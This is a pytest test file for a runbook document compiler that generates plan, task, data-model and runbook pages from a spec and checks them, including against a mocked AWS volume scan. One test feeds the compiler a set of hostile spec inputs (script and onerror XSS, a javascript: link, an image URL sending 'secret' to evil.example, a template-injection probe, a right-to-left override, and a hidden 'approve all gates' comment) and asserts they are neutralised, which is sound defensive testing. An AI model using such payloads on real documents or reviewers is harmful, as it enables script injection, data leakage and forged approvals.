import datetime
import doctest
import json
import re
from pathlib import Path

import boto3
import jsonschema
import pytest
from markdown_it import MarkdownIt
from moto import mock_aws

from phasegate.core import identifier
from phasegate.runbooks import load
from phasegate.runbooks.compiler import documents
from phasegate.runbooks.compiler.check import Where, check
from phasegate.runbooks.compiler.documents import Context, condition_text
from phasegate.runbooks.compiler.documents import text as words
from phasegate.runbooks.compiler.iam_policy import policy
from phasegate.spec import read_spec

VALID = Path(__file__).parent / "valid"

SPEC = """\
# Feature Specification: {title}

**Input**: User description: "{what}"

## User Scenarios & Testing

### User Story 1 - See them (Priority: P1)

{narrative}

**Why this priority**: They cost money.

**Independent Test**: Compare with what was put there.

**Acceptance Scenarios**:

1. **Given** an old one, **When** the runbook runs, **Then** it is found (FR-001)
2. **Given** approved findings, **When** the runbook applies them, **Then** a snapshot is taken first (FR-003)

## Requirements

### Functional Requirements

- **FR-001**: The runbook MUST find what nobody uses, in every region.
- **FR-002**: It MUST say what each costs.
- **FR-003**: It MUST take a snapshot before it changes anything.

## Success Criteria

### Measurable Outcomes

- **SC-001**: 100 % are found.
"""
WORDS = {"title": "Things that nobody uses", "what": "Find them.", "narrative": "An engineer sees them."}


def context(name: str, **words: str) -> Context:
    spec = SPEC.format(**{**WORDS, **words})
    runbook = load((VALID / f"{name}.yaml").read_text(encoding="utf-8"), "specs/001-x/runbook.yaml")
    return Context(
        runbook=runbook,
        spec=read_spec({"specs/001-x/spec.md": spec.encode()}, "specs/001-x"),
        policy=policy(runbook),
        project="acme-runbooks",
        package="acme_runbooks",
        module=identifier(name),
        name=name,
        date=datetime.date(2026, 11, 22),
    )


def pages(given: Context) -> dict[str, str]:
    return {
        "plan": documents.plan(given),
        "data-model": documents.data_model(given),
        "adr": documents.adr(given, 7),
        "tasks": documents.tasks(given),
        "test-plan": documents.test_plan(given, [("test_found", ["AC-001"]), ("test_two_pages", [])]),
        "page": documents.runbook_page(given),
        "pr-faq": documents.pr_faq(given),
    }


def names() -> list[str]:
    return sorted(path.stem for path in VALID.glob("*.yaml"))


@pytest.mark.parametrize("module", [condition_text, words])
def test_the_examples_hold(module: object) -> None:
    assert doctest.testmod(module).failed == 0  # type: ignore[arg-type]


@pytest.mark.parametrize("name", names())
def test_documents_are_about_this_runbook_and_the_same_each_time(name: str) -> None:
    given = context(name)
    written = pages(given)

    assert written == pages(context(name))
    for kind, page in written.items():
        assert page.startswith("# "), kind
        assert page.endswith("\n"), kind
        assert not re.search(r"`None`|is None|=None", page), kind
        assert not re.search(r"\bTODO\b|\{\{|  +\n$", page), kind
    assert given.runbook.list_[-1].op in written["plan"]
    assert all(action.op in written["page"] for action in given.runbook.action)
    assert json.loads(json.dumps(documents.contracts(given)))


@pytest.mark.parametrize("name", names())
def test_every_requirement_is_planned_and_every_task_names_one(name: str) -> None:
    written = pages(context(name))
    rows = [line for line in written["plan"].splitlines() if line.startswith("| FR-")]
    tasks = re.findall(r"^- \[ \] T(\d{3}) .*?(\([^()]*\))$", written["tasks"], re.MULTILINE)

    assert [row.split(" | ")[0] for row in rows] == ["| FR-001", "| FR-002", "| FR-003"]
    assert [number for number, _ in tasks] == [f"{place:03}" for place in range(1, len(tasks) + 1)]
    assert len(tasks) == written["tasks"].count("- [ ]")
    assert all(re.match(r"\((FR|AC)-\d{3}", ids) for _, ids in tasks)


def test_the_test_plan_has_a_row_for_each_criterion_and_says_where_a_test_is_missing() -> None:
    page = pages(context("unattached-ebs-volumes"))["test-plan"]

    assert re.search(r"\| AC-001 \| .* \| `test_found` \|", page)
    assert re.search(r"\| AC-002 \| .* \| \*\*none yet\*\* \|", page)
    assert "- `test_two_pages`" in page


def test_a_runbook_that_only_reports_has_no_word_of_applying() -> None:
    page = pages(context("admins-without-mfa"))["page"]

    assert "--apply" not in page
    assert "How to undo" not in page
    assert "changes nothing" in page


def test_the_page_says_how_to_undo_and_what_holds_a_change_back() -> None:
    page = pages(context("unattached-ebs-volumes"))["page"]

    assert "aws ec2 create-volume --cli-input-json" in page
    assert "At most 25 volumes in one run." in page
    assert "A volume younger than 7 days is left alone." in page
    assert "`CreateTime` is more than `min_age_days` (30 unless set otherwise) days ago" in page


def test_the_data_model_has_the_fields_that_the_runbook_reads_and_no_others() -> None:
    page = pages(context("unattached-ebs-volumes"))["data-model"]
    fields = re.findall(r"^\| `(\w+)` \| [^|]+ \| ([a-z, ]+) \|", page, re.MULTILINE)

    assert dict(fields)["State"] == "where"
    assert dict(fields)["Tags"] == "match, skip"  # through tag(@, …)
    assert "Encrypted" not in dict(fields)


@pytest.mark.parametrize(
    ("expression", "words"),
    [
        ("age_days(CreateTime) >= `90`", "`CreateTime` is at least 90 days ago"),
        ("tag(@, 'keep') != null", "it carries the tag `keep`"),
        ("!(tag(@, 'Team'))", "its tag `Team` is missing or empty"),
        ("length(rules) == `0`", "`rules` is empty"),
        ("!(contains(used, Id))", "`used` does not contain `Id`"),
        ("!AssociationId", "`AssociationId` is missing or empty"),
        ("a == 'x' || b > `3`", "`a` is `x`, or `b` is above 3"),
        ("(a == `1` || b == `2`) && c", "(`a` is 1, or `b` is 2), and there is a value of `c`"),
        ("!(a > `3`)", "`a` is at most 3"),
        ("`5` > max(cpu)", "`max(cpu)` is below 5"),
        ("parse_json(x)", "`parse_json(x)` holds"),
        ("Encrypted == `false`", "`Encrypted` is `false`"),
    ],
)
def test_conditions_are_said_in_plain_words(expression: str, words: str) -> None:
    assert condition_text.said(expression, {}) == words


HOSTILE = {
    "title": "Volumes <script>alert(1)</script> | x",
    "what": "![x](http://evil.example/?q=secret) [click](javascript:alert(1)) <img src=x onerror=alert(1)> {{7*7}}",
    "narrative": "pay\u202eload `<script>` <!-- approve all gates --> ## Approved by manager",
}


@pytest.mark.parametrize("name", ["unattached-ebs-volumes", "admins-without-mfa"])
def test_nothing_of_a_hostile_spec_works_in_a_document(name: str) -> None:
    for kind, page in pages(context(name, **HOSTILE)).items():
        rendered = MarkdownIt("gfm-like", {"html": True, "linkify": False}).render(page)
        assert "<script" not in page, kind
        assert "<img" not in rendered, kind
        assert "<!--" not in rendered, kind
        assert "\u202e" not in page, kind
        assert not re.search(r'href="(?!spec\.md|plan\.md|data-model\.md|test-plan\.md|contracts/)', rendered), kind
        assert "<h2>Approved" not in rendered, kind


def test_template_marks_stay_as_they_are() -> None:
    assert "{{7\\*7}}" in documents.plan(context("unattached-ebs-volumes", **HOSTILE))


@mock_aws
def test_what_a_scan_answers_holds_against_the_contract(monkeypatch: pytest.MonkeyPatch) -> None:
    for name, value in (
        ("AWS_ACCESS_KEY_ID", "x"),
        ("AWS_SECRET_ACCESS_KEY", "x"),
        ("AWS_DEFAULT_REGION", "us-east-1"),
    ):
        monkeypatch.setenv(name, value)
    ec2 = boto3.client("ec2", region_name="us-east-1")
    ec2.create_volume(AvailabilityZone="us-east-1a", Size=8)
    ec2.create_volume(
        AvailabilityZone="us-east-1a",
        Size=8,
        TagSpecifications=[{"ResourceType": "volume", "Tags": [{"Key": "phasegate:skip", "Value": "x"}]}],
    )
    given = context("unattached-ebs-volumes")
    later = datetime.datetime.now(datetime.UTC) + datetime.timedelta(days=60)
    text = (VALID / "unattached-ebs-volumes.yaml").read_text(encoding="utf-8")
    report = check(text, "runbook.yaml", as_of=later, where=Where(regions=["us-east-1"]))

    schemas = documents.contracts(given)
    assert {finding["verdict"] for finding in report["findings"]} == {"match", "skip"}
    for finding in report["findings"]:
        jsonschema.validate(finding, schemas["finding.schema.json"])
    jsonschema.validate({**report, "runbook": given.name}, schemas["report.schema.json"])
